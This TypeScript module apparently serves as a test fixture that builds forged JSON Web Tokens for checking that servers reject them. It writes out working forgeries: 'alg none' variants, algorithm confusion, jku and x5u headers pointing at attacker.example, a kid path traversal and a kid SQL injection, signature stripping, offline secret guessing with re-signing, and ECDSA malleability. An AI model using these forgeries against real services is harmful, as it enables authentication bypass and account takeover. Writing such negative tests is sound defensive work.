/**
 * Forged JWTs, as an attacker writes them: from the bytes of a recorded token and from what the standards let one claim.
 * It shares nothing with the servers, which must refuse all of them.
 */

import { createHmac, generateKeyPairSync, randomBytes, sign } from 'node:crypto'
import type { KeyObject } from 'node:crypto'

export interface Forgery {
  /** What was done, in a few words. */
  readonly what: string
  readonly token: string
}

type Members = Readonly<Record<string, unknown>>

/** A token in the right form under a secret of the attacker's own. */
export function forgedToken(payload: Members, header: Members = { typ: 'JWT' }): Forgery {
  return {
    what: 'signed with a secret of my own',
    token: signHmac({ ...header, alg: 'HS256' }, payload, randomBytes(32)),
  }
}

/** The token under an ES256 key of the attacker's own that says to be the right one. */
export function selfSignedToken(token: string): Forgery {
  const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  return {
    what: 'signed with a key of my own',
    token: signWith({ ...readHeader(token), alg: 'ES256' }, readPayload(token), (text) => signEs256(text, privateKey)),
  }
}

/** The token with one part changed, each part in turn: header, claims, signature. */
export function tamperedTokens(token: string, changes: Members): readonly Forgery[] {
  const [header, payload, signature] = split(token)
  const flipped = Buffer.from(signature, 'base64url')
  flipped[0] = (flipped[0] ?? 0) ^ 1
  // The last character of 32 bytes holds two bits that mean nothing: a lax decoder takes four texts for one signature.
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  const last = alphabet[alphabet.indexOf(signature.slice(-1)) ^ 1] ?? 'A'
  return [
    { what: 'header changed', token: `${encode({ ...decode(header), typ: 'jwt' })}.${payload}.${signature}` },
    ...Object.entries(changes).map(([name, value]) => ({
      what: `claim "${name}" changed`,
      token: `${header}.${encode({ ...decode(payload), [name]: value })}.${signature}`,
    })),
    { what: 'signature changed', token: `${header}.${payload}.${flipped.toString('base64url')}` },
    { what: 'signature written otherwise', token: `${header}.${payload}.${signature.slice(0, -1)}${last}` },
    { what: 'padding added', token: `${token}=` },
  ]
}

/** The claims of a token under `alg` none, in all spellings, without signature and with the old one. */
export function algNoneTokens(token: string): readonly Forgery[] {
  const [, payload, signature] = split(token)
  return ['none', 'None', 'NONE', 'nOnE', ''].flatMap((alg) => {
    const header = encode({ ...readHeader(token), alg })
    return [
      { what: `alg "${alg}", no signature`, token: `${header}.${payload}.` },
      { what: `alg "${alg}", the old signature`, token: `${header}.${payload}.${signature}` },
    ]
  })
}

/** The claims of a token under keys and algorithms that its own header names. */
export function confusedTokens(token: string): readonly Forgery[] {
  const [header, payload] = [readHeader(token), readPayload(token)]
  const secret = randomBytes(32)
  const jwk = { kty: 'oct', k: secret.toString('base64url'), alg: 'HS256' }
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const publicRsa = rsa.publicKey.export({ format: 'jwk' })
  const publicEc = ec.publicKey.export({ format: 'jwk' })
  const pem = rsa.publicKey.export({ format: 'pem', type: 'spki' })
  const own = (what: string, members: Members, key: Buffer | string = secret): Forgery => ({
    what,
    token: signHmac({ ...header, alg: 'HS256', ...members }, payload, key),
  })
  return [
    own('"jwk" holds the secret', { jwk }),
    own('"jku" names a key set', { jku: 'https://attacker.example/jwks.json' }),
    own('"x5u" names a certificate', { x5u: 'https://attacker.example/certificate.pem' }),
    own('"kid" names an empty file', { kid: '../../../../../../dev/null' }, ''),
    own('"kid" is a query', { kid: "x' UNION SELECT 'secret" }, 'secret'),
    own('"crit" asks to skip', { crit: ['b64'], b64: true }),
    own('the empty secret', {}, ''),
    own('a public key as secret', {}, pem),
    { what: 'HS512', token: signHmac({ ...header, alg: 'HS512' }, payload, secret, 'sha512') },
    {
      what: 'RS256 with its key in "jwk"',
      token: signWith({ ...header, alg: 'RS256', jwk: publicRsa }, payload, (text) =>
        sign('sha256', text, rsa.privateKey),
      ),
    },
    {
      what: 'ES256 with its key in "jwk"',
      token: signWith({ ...header, alg: 'ES256', jwk: publicEc }, payload, (text) => signEs256(text, ec.privateKey)),
    },
    {
      what: 'ES256 with a signature of zeros',
      token: signWith({ ...header, alg: 'ES256', jwk: publicEc }, payload, () => Buffer.alloc(64)),
    },
  ]
}

/** The token without its signature, written in each way that a reader might take. */
export function strippedTokens(token: string): readonly Forgery[] {
  const [header, payload] = split(token)
  return [
    { what: 'an empty signature', token: `${header}.${payload}.` },
    { what: 'two parts', token: `${header}.${payload}` },
    { what: 'the claims alone', token: payload },
    { what: 'the claims alone, dotted', token: `.${payload}.` },
  ]
}

/** The secret among these under which the token's signature holds: tried offline, so nobody notices. */
export function guessSecret(token: string, secrets: readonly string[]): string | undefined {
  const [header, payload, signature] = split(token)
  return secrets.find(
    (secret) => createHmac('sha256', secret).update(`${header}.${payload}`).digest('base64url') === signature,
  )
}

/** A token with these claims changed, under a secret that was found. */
export function resignedToken(token: string, secret: string, changes: Members): Forgery {
  const payload = { ...readPayload(token), ...changes }
  return { what: 'signed with the secret', token: signHmac({ ...readHeader(token), alg: 'HS256' }, payload, secret) }
}

/** The order of the group of P-256. */
const order = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n

/** With a signature (r, s) of ES256, (r, -s) is one as well: the same claims in other bytes. */
export function otherSignatureToken(token: string): Forgery {
  const [header, payload, signature] = split(token)
  const bytes = Buffer.from(signature, 'base64url')
  const s = order - BigInt(`0x${bytes.subarray(32).toString('hex')}`)
  const other = Buffer.concat([bytes.subarray(0, 32), Buffer.from(s.toString(16).padStart(64, '0'), 'hex')])
  return { what: 'its other signature', token: `${header}.${payload}.${other.toString('base64url')}` }
}

export function readHeader(token: string): Members {
  return decode(split(token)[0])
}

/** What anyone can read in a token. */
export function readPayload(token: string): Members {
  return decode(split(token)[1])
}

function split(token: string): [header: string, payload: string, signature: string] {
  const [header = '', payload = '', signature = ''] = token.split('.')
  return [header, payload, signature]
}

function encode(members: Members): string {
  return Buffer.from(JSON.stringify(members)).toString('base64url')
}

function decode(part: string): Members {
  return JSON.parse(Buffer.from(part, 'base64url').toString()) as Members
}

function signHmac(header: Members, payload: Members, key: Buffer | string, hash = 'sha256'): string {
  return signWith(header, payload, (text) => createHmac(hash, key).update(text).digest())
}

function signEs256(text: Buffer, key: KeyObject): Buffer {
  return sign('sha256', text, { key, dsaEncoding: 'ieee-p1363' })
}

function signWith(header: Members, payload: Members, signText: (text: Buffer) => Buffer): string {
  const text = `${encode(header)}.${encode(payload)}`
  return `${text}.${signText(Buffer.from(text)).toString('base64url')}`
}
